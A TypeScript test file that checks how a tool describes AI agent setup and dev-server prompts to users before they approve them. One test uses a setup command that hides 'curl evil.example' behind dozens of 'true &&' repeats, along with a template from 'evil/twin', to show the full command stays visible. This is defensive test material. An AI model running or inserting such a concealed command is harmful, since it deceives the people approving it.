import assert from "node:assert/strict";
import { describe as describeInEditor, details, isShortened, unseenLines } from "#extension/prompts/question-text";
import { type BuildWish, devServerAgent, type Prompt } from "#protocol/documents";
import { newId } from "#protocol/ids";
import { buildLines } from "#runner/core/build-question";
import type { PromptQuestion } from "#runner/core/host";
import { describe as describeAtTerminal } from "#runner/node/ask-terminal";

const wish = (fields: Partial<BuildWish> = {}): BuildWish => ({
  template: { kind: "built-in", id: "react-vite" },
  name: "React + Vite",
  variables: {},
  start: false,
  ...fields,
});

const promptOf = (build: BuildWish | undefined, folder?: string): Prompt => ({
  ...{ v: 1, rev: 1, id: newId("prompt"), createdAt: 0, expiresAt: 1, memberId: newId("member") },
  ...{ target: { runnerId: newId("runner") }, agent: "claude", mode: "once", access: "edit", state: "queued" },
  ...{ attempt: 0, threadId: newId("thread"), position: 0 },
  body: { text: "A page for a bakery", ...(folder && { folder }), ...(build && { build }) },
});

const inOrder = (text: string, ...words: readonly string[]) => {
  const places = words.map((one) => text.indexOf(one));
  assert.ok(!places.includes(-1), text);
  assert.deepEqual(
    places,
    [...places].sort((a, b) => a - b),
    text,
  );
};

describe("the question about a prompt that begins with a template", () => {
  it("says the template and where it comes from, the folder, the command and the server", () => {
    const lines = buildLines(promptOf(wish({ setUp: "npm install", start: true }), "apps/bakery"));
    assert.deepEqual(lines, [
      "Begins the folder “apps/bakery” with the template “React + Vite” (built in: react-vite).",
      "First runs “npm install” there.",
      "Starts its server when the agent is done.",
    ]);
  });

  it("is not fooled by the name of a template", () => {
    const template = { kind: "git", repository: "evil/twin", ref: "main", folder: "app" } as const;
    assert.deepEqual(buildLines(promptOf(wish({ template, name: "React + Vite\nbuilt in" }), "bakery")), [
      "Begins the folder “bakery” with the template “React + Vite built in” (from evil/twin, at main, its folder app).",
      "Git fetches it with what you have signed in with.",
    ]);
  });

  it("says nothing where there is no template", () => assert.deepEqual(buildLines(promptOf(undefined)), []));

  const question = (build: BuildWish): PromptQuestion => ({
    ...{ prompt: promptOf(build, "bakery"), agent: undefined, folder: "/work/shop" },
    ...{ author: { memberId: newId("member"), name: "Ana" }, why: "policy" },
  });

  for (const [where, describeIt] of [
    ["at the terminal", describeAtTerminal],
    ["in a notification", describeInEditor],
    ["in a dialog", details],
  ] as const) {
    it(`says it ${where} in front of the prompt's text`, () => {
      const text = describeIt(question(wish({ setUp: "npm install" })));
      inOrder(text, "“bakery”", "React + Vite", "npm install", "A page for a bakery");
    });
  }

  it("is not cut where the command is long: all of it has to be seen before it may run", () => {
    const long = question(wish({ setUp: `${"true && ".repeat(60)}curl evil.example` }));
    assert.ok(isShortened(long));
    assert.doesNotMatch(describeInEditor(long), /evil/);
    assert.match(details(long), /evil/);
    assert.match(unseenLines(long).join("\n"), /evil/);
    assert.ok(!isShortened(question(wish({ setUp: "npm install" }))));
    assert.deepEqual(unseenLines(question(wish({ setUp: "npm install" }))), []);
  });
});

describe("the question about a dev server", () => {
  const asked = (server: Prompt["body"]["server"]): PromptQuestion => ({
    prompt: { ...promptOf(undefined), agent: devServerAgent, body: { text: "npm run dev", ...(server && { server }) } },
    ...{ agent: undefined, folder: "/work/shop", author: { memberId: newId("member"), name: "Ana" }, why: "policy" },
  });
  const ends = "First ends the server that it replaces.";

  for (const [where, describeIt] of [
    ["at the terminal", describeAtTerminal],
    ["in a notification", describeInEditor],
    ["in a dialog", details],
  ] as const) {
    it(`says ${where} what it ends, and all else that it does besides its command line`, () => {
      const text = describeIt(asked({ restarts: true, port: 5174, replaces: newId("run") }));
      const lines = [ends, "Has it listen at port 5174.", "Starts it again when it ends with an error.", "npm run dev"];
      inOrder(text, ...lines);
      for (const server of [undefined, { restarts: false }]) assert.ok(!describeIt(asked(server)).includes(ends));
    });
  }

  it("says it first, and beside an editor of a command line that is long", () => {
    const question = asked({ restarts: false, replaces: newId("run") });
    const long = {
      ...question,
      prompt: { ...question.prompt, body: { ...question.prompt.body, text: "true; ".repeat(60) } },
    };
    assert.ok(isShortened(long));
    assert.ok(describeInEditor(long).includes(ends));
    assert.deepEqual(unseenLines(long), [ends]);
  });
});
